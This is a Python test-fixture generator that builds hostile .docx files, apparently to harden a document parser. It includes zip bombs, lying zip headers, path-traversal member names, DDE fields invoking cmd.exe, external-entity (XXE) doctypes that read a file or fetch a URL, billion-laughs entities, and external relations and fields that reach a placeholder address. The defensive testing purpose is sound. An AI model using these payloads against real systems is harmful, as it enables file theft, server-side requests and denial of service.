"""Word files that strangers could send: bombs, lies, smuggled parts, disguises. Every one is made here, in code."""

from __future__ import annotations

import functools
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
DOCUMENT = "word/document.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

Parts = dict[str, bytes]


@dataclass(frozen=True)
class Member:
    """One zip member as the local header and the directory tell it; None = the truth."""

    name: bytes
    content: bytes
    method: int = 8
    flags: int = 0
    local_name: bytes | None = None
    size: int | None = None
    local_size: int | None = None
    crc: int | None = None
    offset: int | None = None


def raw_zip(members: list[Member], *, gap: bytes = b"", comment: bytes = b"", start_of_directory: int = 0) -> bytes:
    """Write a zip by hand, so that it can lie."""
    body, directory = bytearray(), bytearray()
    for member in members:
        packed = _packed(member)
        crc = zlib.crc32(member.content) if member.crc is None else member.crc
        size = len(member.content) if member.size is None else member.size
        local_size = size if member.local_size is None else member.local_size
        local_name = member.name if member.local_name is None else member.local_name
        offset = len(body) if member.offset is None else member.offset
        if member.offset is None:
            head = (20, member.flags, member.method, 0, 33, crc, len(packed), local_size, len(local_name), 0)
            body += b"PK\x03\x04" + struct.pack("<5H3I2H", *head) + local_name + packed + gap
        entry = (20, 20, member.flags, member.method, 0, 33, crc, len(packed), size)
        tail = (len(member.name), 0, 0, 0, 0, 0, offset)
        directory += b"PK\x01\x02" + struct.pack("<6H3I", *entry) + struct.pack("<5H2I", *tail)
        directory += member.name
    counts = (0, 0, len(members), len(members), len(directory), start_of_directory or len(body), len(comment))
    return bytes(body + directory) + b"PK\x05\x06" + struct.pack("<4H2IH", *counts) + comment


def _packed(member: Member) -> bytes:
    if member.method != 8:
        return member.content
    return _deflated(member.content)


@functools.lru_cache(maxsize=32)
def _deflated(content: bytes) -> bytes:
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return squeezer.compress(content) + squeezer.flush()


def parts_of(content: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Parts, *, stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def swollen(parts: Parts, name: str, chunk: bytes, times: int, *, start: bytes = b"", end: bytes = b"") -> bytes:
    """Pack the parts, one of them blown up by a repeated chunk; never held in memory as a whole."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for other, content in parts.items():
            if other != name:
                archive.writestr(other, content)
        with archive.open(name, "w") as part:
            part.write(start)
            for _ in range(times):
                part.write(chunk)
            part.write(end)
    return buffer.getvalue()


def members_of(parts: Parts) -> list[Member]:
    return [Member(name.encode(), content) for name, content in parts.items()]


def with_body(parts: Parts, xml: str, *, head: str = "", encoding: str = "UTF-8") -> Parts:
    """Give the parts with this text before everything in the body."""
    text = parts[DOCUMENT].decode().replace("<w:body>", f"<w:body>{xml}", 1)
    if head or encoding != "UTF-8":
        text = re.sub(r"<\?xml[^>]*\?>", f'<?xml version="1.0" encoding="{encoding}"?>{head}', text, count=1)
    return parts | {DOCUMENT: text.encode("utf-16" if encoding == "UTF-16" else "utf-8")}


def with_marker(parts: Parts) -> str:
    """Give the document's XML with MARK as the text of its first paragraph."""
    return with_body(parts, paragraph("<w:r><w:t>MARK</w:t></w:r>"))[DOCUMENT].decode()


def with_relation(parts: Parts, kind: str, target: str, *, external: bool, part: str = RELATIONS) -> Parts:
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'
    return parts | {part: parts[part].decode().replace("</Relationships>", f"{line}</Relationships>").encode()}


def with_part(parts: Parts, name: str, content: bytes, content_type: str, kind: str = "") -> Parts:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    added = parts | {TYPES: parts[TYPES].decode().replace("</Types>", override).encode(), name: content}
    return with_relation(added, kind, "/" + name, external=False) if kind else added


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def field(*instructions: str) -> str:
    """A complex field; its instruction comes in as many runs as there are words given."""
    pieces = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, mark, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return paragraph(f"{begin}{pieces}{mark}<w:r><w:t>结果</w:t></w:r>{end}")


def containers(good: bytes) -> Iterator[tuple[str, bytes]]:
    """Files that are no Word file, and archives that are built to mislead or to exhaust."""
    parts = parts_of(good)
    members = members_of(parts)
    document = parts[DOCUMENT]
    others = [member for member in members if member.name != DOCUMENT.encode()]
    spaces = b" " * (1 << 20)
    yield "empty", b""
    yield "blank", b"\x00" * 512
    yield "plain text", "尊敬的领导：您好".encode()
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    yield "png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    yield "jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 64
    yield "rtf", b"{\\rtf1\\ansi hello}"
    yield "html named docx", b"<html><body>letter</body></html>"
    yield "flat xml word", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'
    yield "old doc", OLE + b"\x00" * 512 + "WordDocument".encode("utf-16-le")
    yield "encrypted docx", OLE + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le")
    yield "rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64
    yield "program", b"MZ" + b"\x00" * 200
    yield "odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})
    yield "workbook", packed({TYPES: b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    yield "slides", packed({TYPES: b"<Types/>", "ppt/presentation.xml": b"<p/>"})
    yield "archive of notes", packed({"a.txt": b"x"})
    yield "empty archive", packed({})
    yield "too large", good + random.Random(1).randbytes(21 << 20)
    yield "too many parts", packed(parts | {f"word/x{i}.xml": b"<x/>" for i in range(2_001)})
    yield "document of 60 MB of spaces", swollen(parts, DOCUMENT, spaces, 60, start=document)
    yield "many bombs of 9 MB", packed(parts | {f"word/x{i}.xml": spaces * 9 for i in range(12)})
    yield "110 MB in small parts", packed(parts | {f"word/x{i}.xml": spaces for i in range(110)})
    yield "bomb of a picture", swollen(parts, "word/media/a.png", bytes(1 << 20), 90, start=b"\x89PNG\r\n\x1a\n")
    open_text, close_text = (piece.encode() for piece in with_marker(parts).split("MARK"))
    yield "text node of 300 MB", swollen(parts, DOCUMENT, b"a" * (1 << 20), 300, start=open_text, end=close_text)
    yield "text node of 12 MB", packed(with_body(parts, paragraph(f"<w:r><w:t>{_noise(12 << 20)}</w:t></w:r>")))
    yield "size told too small", raw_zip([*others, Member(DOCUMENT.encode(), document + spaces * 9, size=4096)])
    yield "size told too large", raw_zip([*others, Member(DOCUMENT.encode(), document, size=len(document) + 50)])
    yield "local size lies", raw_zip([*others, Member(DOCUMENT.encode(), document, local_size=7)])
    yield "wrong checksum", raw_zip([*others, Member(DOCUMENT.encode(), document, crc=1)])
    twice = [Member(b"word/a%d.xml" % i, members[0].content, offset=0) for i in range(3)]
    yield "members share one body", raw_zip([*members, *twice])
    inner = raw_zip([Member(b"word/b.xml", spaces)])
    record = inner[: inner.index(b"PK\x01\x02")]
    at = len(raw_zip(members).split(b"PK\x01\x02")[0]) + 30 + len(b"word/a.xml")
    within = Member(b"word/b.xml", spaces, offset=at)
    yield "one member inside another", raw_zip([*members, Member(b"word/a.xml", record, method=0), within])
    four = spaces * 4
    sum_of_four = zlib.crc32(four)
    quoted = [Member(b"word/q%d.xml" % i, four, crc=sum_of_four, offset=0) for i in range(1_000)]
    yield "overlapping bomb", raw_zip([Member(b"word/q.xml", four), *quoted, *members[1:]])
    yield "encrypted member", raw_zip([*others, Member(DOCUMENT.encode(), document, flags=1)])
    yield "strange compression", raw_zip([*others, Member(DOCUMENT.encode(), document, method=12)])
    for name, words in _names().items():
        yield words, raw_zip([*members, Member(name, b"<x/>")])
    yield "two documents", raw_zip([*members, Member(DOCUMENT.encode(), document)])
    yield "two documents by case", raw_zip([*members, Member(b"WORD/Document.xml", document)])
    yield "local name differs", raw_zip([*others, Member(DOCUMENT.encode(), document, local_name=b"word/decument.xml")])
    yield "pdf before the archive", b"%PDF-1.4\n" + good
    yield "program before the archive", b"MZ" + b"\x90" * 300 + good
    yield "html behind the archive", good + b"<html><script>1</script></html>"
    yield "script in the comment", raw_zip(members, comment=b"<script>alert(1)</script>")
    yield "hidden bytes between members", raw_zip(members, gap=b"\x7fELF" * 64)
    yield "directory at a wrong place", raw_zip(members, start_of_directory=5)
    yield "zip64 marks", raw_zip([*others, Member(DOCUMENT.encode(), document, size=0xFFFFFFFF)])
    yield "docx inside", packed(parts | {"word/embeddings/inner.docx": good})
    yield "docx inside under a neutral name", packed(parts | {"word/media/a.xml": good})
    yield "zip of zips", packed(parts | {f"word/media/{i}.zip": packed({"a": spaces}) for i in range(20)})
    yield "gzip inside", packed(parts | {"word/media/image1.png": b"\x1f\x8b\x08" + b"\x00" * 99})
    for place in range(1, 15):
        yield f"cut at {place} fifteenths", good[: len(good) * place // 15]
    yield "cut by one byte", good[:-1]


def _names() -> dict[bytes, str]:
    return {
        b"/etc/passwd": "absolute name",
        b"../../../../tmp/evil.xml": "name that climbs",
        b"word/../../evil.xml": "name that climbs inside",
        b"..\\..\\evil.xml": "name with backslashes",
        b"C:/evil.xml": "name with a drive",
        b"word/a\x00.xml": "name with NUL",
        "word/\u202elmx.exe".encode(): "name that runs backwards",
        b"word/" + b"a" * 250: "name of 255 bytes",
        b"word/" + b"a" * 60_000: "name of 60,000 bytes",
        b"\xff\xfe\xfd.xml": "name that is no text",
        b"word/\n.xml": "name of two lines",
        b"": "no name",
    }


def _noise(length: int) -> str:
    return random.Random(2).randbytes(length // 2).hex()


def packages(good: bytes, address: str, canary: str) -> Iterator[tuple[str, bytes]]:
    """Archives in order whose parts carry programs, other files or the way to another machine.

    `address` is a URL that must never be asked, `canary` the URL of a file that must never be read.
    """
    parts = parts_of(good)
    types = parts[TYPES].decode()

    def typed(name: str) -> bytes:
        return packed(parts | {TYPES: types.replace(MAIN, name).encode()})

    without = {name: content for name, content in parts.items() if name != TYPES}
    yield "no content types", packed(without)
    yield "no document", packed({name: content for name, content in parts.items() if name != DOCUMENT})
    yield "no relations", packed({name: content for name, content in parts.items() if name != "_rels/.rels"})
    yield "macro document", typed("application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "macro template", typed("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    yield "template", typed(MAIN.replace("document.main", "template.main"))
    yield "workbook type", typed("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    yield (
        "macros",
        packed(with_part(parts, "word/vbaProject.bin", OLE, "application/vnd.ms-office.vbaProject", "vbaProject")),
    )
    yield "macros without a relation", packed(parts | {"word/vbaProject.bin": OLE})
    yield (
        "macros under another name",
        packed(with_part(parts, "word/a.bin", OLE, "application/vnd.ms-office.vbaProject", "image")),
    )
    yield "ole object", packed(with_part(parts, "word/embeddings/o.bin", OLE, "application/ole", "oleObject"))
    yield "ole object as a picture", packed(with_part(parts, "word/media/a.png", OLE, "image/png", "image"))
    yield (
        "workbook inside",
        packed(with_part(parts, "word/embeddings/b.bin", b"abc", "application/vnd.ms-excel", "package")),
    )
    yield (
        "active control",
        packed(with_part(parts, "word/activeX/a.xml", b"<x/>", "application/vnd.ms-office.activeX+xml", "control")),
    )
    chunk = with_part(parts, "word/chunk.html", b"<html/>", "text/html", "aFChunk")
    yield "alternative chunk", packed(with_body(chunk, f'<w:altChunk xmlns:r="{R}" r:id="rId99"/>'))
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath", "aFChunk"):
        yield f"outside {kind}", packed(with_relation(parts, kind, address, external=True))
    yield (
        "outside path on another machine",
        packed(with_relation(parts, "image", r"\\203.0.113.9\share\a.png", external=True)),
    )
    yield "hyperlink to a file", packed(with_relation(parts, "hyperlink", canary, external=True))
    yield "hyperlink to a script", packed(with_relation(parts, "hyperlink", "javascript:alert(1)", external=True))
    footer = {"word/_rels/footer1.xml.rels": parts[RELATIONS].split(b"<Relationship ")[0] + b"</Relationships>"}
    yield (
        "outside picture in a footer",
        packed(with_relation(parts | footer, "image", address, external=True, part="word/_rels/footer1.xml.rels")),
    )
    yield (
        "web settings with a frame",
        packed(with_part(parts, "word/webSettings.xml", b"<w:frameset/>", "application/xml", "frame")),
    )
    for name, instructions in _fields(address).items():
        yield name, packed(with_body(parts, field(*instructions)))
    simple = f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe &quot;/k {address}&quot;"><w:r/></w:fldSimple></w:p>'
    yield "dde as a simple field", packed(with_body(parts, simple))
    foot = parts["word/footer1.xml"].decode().replace("</w:ftr>", field("DDE cmd") + "</w:ftr>").encode()
    yield "dde in a footer", packed(parts | {"word/footer1.xml": foot})


def _fields(address: str) -> dict[str, tuple[str, ...]]:
    return {
        "dde": ('DDE "cmd" "/c calc"',),
        "dde in pieces": ("D", "DE", 'AUTO "cmd"'),
        "dde in lower case": (" ddeauto cmd ",),
        "include text": (f' INCLUDETEXT "{address}" ',),
        "include picture": (f" INCLUDEPICTURE  {address} \\d",),
        "linked object": (f" LINK Excel.Sheet {address}",),
        "macro button": (" MACROBUTTON Run 单击",),
        "quoted characters": (" QUOTE 68 68 69",),
        "merged database": (f" DATABASE \\c {address}",),
    }


def markups(good: bytes, address: str, canary: str) -> Iterator[tuple[str, bytes]]:
    """Packages in order whose XML is hostile."""
    parts = parts_of(good)
    shown = paragraph("<w:r><w:t>&x;</w:t></w:r>")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    doctypes = {
        "entity of its own": '<!DOCTYPE w [<!ENTITY x "y">]>',
        "entity from a file": f'<!DOCTYPE w [<!ENTITY x SYSTEM "{canary}">]>',
        "entity from the network": f'<!DOCTYPE w [<!ENTITY x SYSTEM "{address}">]>',
        "parameter entity": f'<!DOCTYPE w [<!ENTITY % p SYSTEM "{address}"> %p; <!ENTITY x "y">]>',
        "outside definition": f'<!DOCTYPE w SYSTEM "{address}">',
        "public definition": f'<!DOCTYPE w PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{address}">',
        "billion laughs": f'<!DOCTYPE w [<!ENTITY l0 "lol">{laughs}<!ENTITY x "&l11;">]>',
        "quadratic entity": f'<!DOCTYPE w [<!ENTITY x "{"a" * 50_000}">]>',
    }
    for name, doctype in doctypes.items():
        yield name, packed(with_body(parts, shown * (500 if "quadratic" in name else 1), head=doctype))
    outside = doctypes["entity from a file"]
    yield "entity in UTF-16", packed(with_body(parts, shown, head=outside, encoding="UTF-16"))
    for encoding in ("UTF-7", "IBM037", "GB18030", "no-such"):
        yield f"entity in {encoding}", packed(with_body(parts, shown, head=outside, encoding=encoding))
    seven = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE w+AD4-<w/>'
    yield "definition hidden by UTF-7", packed(parts | {DOCUMENT: seven})
    ebcdic = parts[DOCUMENT].decode().replace("UTF-8", "cp037").encode("cp037", "replace")
    yield "document in EBCDIC", packed(parts | {DOCUMENT: ebcdic})
    for part in ("word/styles.xml", TYPES, RELATIONS, "_rels/.rels", "word/settings.xml", "word/footer1.xml"):
        text = parts[part].decode().replace("?>", f"?>{outside}", 1)
        yield f"entity in {part}", packed(parts | {part: text.encode()})
    yield (
        "entity in comments",
        packed(with_part(parts, "word/comments.xml", f"{outside}<c>&x;</c>".encode(), "application/xml", "comments")),
    )
    yield "entity in custom xml", packed(parts | {"customXml/item1.xml": f"{outside}<c>&x;</c>".encode()})
    for depth in (300, 5_000, 200_000):
        deep = "<w:sdt>" * depth + "</w:sdt>" * depth
        yield f"{depth} levels deep", packed(with_body(parts, deep))
    yield "a million paragraphs", packed(with_body(parts, "<w:p/>" * 1_000_000), stored=True)
    yield (
        "300,000 paragraphs of text",
        packed(with_body(parts, paragraph("<w:r><w:t>字</w:t></w:r>") * 300_000), stored=True),
    )
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 3 + "</w:tr>"
    yield "table of 100,000 rows", packed(with_body(parts, f"<w:tbl>{row * 100_000}</w:tbl>"), stored=True)
    cells = "<w:tc><w:p/></w:tc>" * 60_000
    yield "table of 60,000 columns", packed(with_body(parts, f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"), stored=True)
    nested = "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60
    yield "table in table in table", packed(with_body(parts, nested))
    attributes = " ".join(f'a{i}="{i}"' for i in range(300_000))
    yield "300,000 attributes", packed(with_body(parts, f"<w:p {attributes}/>"), stored=True)
    yield "attribute of 12 MB", packed(with_body(parts, f'<w:p a="{_noise(12 << 20)}"/>'), stored=True)
    spaces = " ".join(f'xmlns:n{i}="u{i}"' for i in range(100_000))
    yield "100,000 namespaces", packed(with_body(parts, f"<w:p {spaces}/>"), stored=True)
    yield "10 MB in one name", packed(with_body(parts, f"<w:{'n' * (10 << 20)}/>"), stored=True)
    yield "broken utf-8", packed(with_body(parts, paragraph("<w:r><w:t>X</w:t></w:r>")) | _broken(parts))
    yield "cut xml", packed(parts | {DOCUMENT: parts[DOCUMENT][:-300]})
    yield "no xml", packed(parts | {DOCUMENT: b"not xml"})
    yield "other root", packed(parts | {DOCUMENT: b"<html><body/></html>"})
    yield "no body", packed(parts | {DOCUMENT: f'<w:document xmlns:w="{W}"/>'.encode()})
    yield "a character that xml forbids", packed(with_body(parts, paragraph("<w:r><w:t>&#0;&#8;</w:t></w:r>")))
    yield "words that run backwards", packed(with_body(parts, paragraph("<w:r><w:t>不&#x202E;予受理</w:t></w:r>")))
    yield (
        "a field that never ends",
        packed(with_body(parts, paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>') * 3)),
    )
    loop = '<w:style w:type="paragraph" w:styleId="{}"><w:name w:val="{}"/><w:basedOn w:val="{}"/></w:style>'
    looped = loop.format("A", "A", "B") + loop.format("B", "B", "A")
    styles = parts["word/styles.xml"].decode().replace("</w:styles>", looped + "</w:styles>").encode()
    in_loop = paragraph('<w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>循环样式</w:t></w:r>')
    yield "styles in a ring", packed(with_body(parts | {"word/styles.xml": styles}, in_loop))
    chain = "".join(loop.format(f"s{i}", f"n{i}", f"s{i + 1}") for i in range(30_000))
    chained = parts["word/styles.xml"].decode().replace("</w:styles>", chain + "</w:styles>").encode()
    tall = "".join(in_loop.replace('"A"', f'"s{i}"') for i in range(5_000))
    yield "styles in a long chain", packed(with_body(parts | {"word/styles.xml": chained}, tall), stored=True)
    yield "styles that are no xml", packed(parts | {"word/styles.xml": b"\x00\x01\x02"})


def _broken(parts: Parts) -> Parts:
    return {DOCUMENT: parts[DOCUMENT].replace(b"</w:t>", b"\xff\xc0\xaf</w:t>", 1)}


def mutations(good: bytes, count: int) -> Iterator[tuple[str, bytes]]:
    """The good file with bytes changed at random places, always the same ones."""
    chance = random.Random(3)
    for number in range(count):
        changed = bytearray(good)
        for _ in range(1 + number % 8):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        yield f"mutation {number}", bytes(changed)
